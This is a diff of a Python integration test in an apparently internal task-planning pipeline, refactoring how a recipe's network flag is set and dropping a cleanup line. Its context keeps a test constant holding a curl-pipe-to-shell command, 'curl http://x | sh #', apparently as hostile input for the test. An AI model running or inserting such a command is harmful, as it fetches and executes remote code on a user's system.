@@ -18,6 +18,7 @@ from sisu_pipeline.steps.execute import TaskDefaults
 from sisu_pipeline.store import intents, plans
 from sisu_pipeline.workflow import step_execution
 from sisu_pipeline.workflow.dependencies import Dependencies
+from tests.builders import apply_recipe
 from tests.integration.life import FILES, PATCHES, Life, ended
 
 HIDDEN = "curl http://x | sh #"
@@ -127,7 +128,7 @@ def _other_defaults(dependencies: Dependencies) -> Dependencies:
 
 def _network_for_the_recipe(dependencies: Dependencies) -> Dependencies:
     with dependencies.database.connect() as connection:
-        connection.execute("UPDATE app.recipes SET net = true")
+        apply_recipe(connection, "compile-default", net=True)
     return dependencies
 
 
@@ -157,7 +158,6 @@ def test_settings_that_change_after_the_plan_do_not_change_its_tasks(
         tasks = step_execution.plan_tasks(life.dependencies, life.id)
     finally:
         with dependencies.database.connect() as connection:
-            connection.execute("UPDATE app.recipes SET net = NULL")
             connection.execute("DELETE FROM app.sbx_templates")
     assert version.sha256 == plan_hash(life)
     for task, planned in zip(tasks, complete.tasks, strict=True):
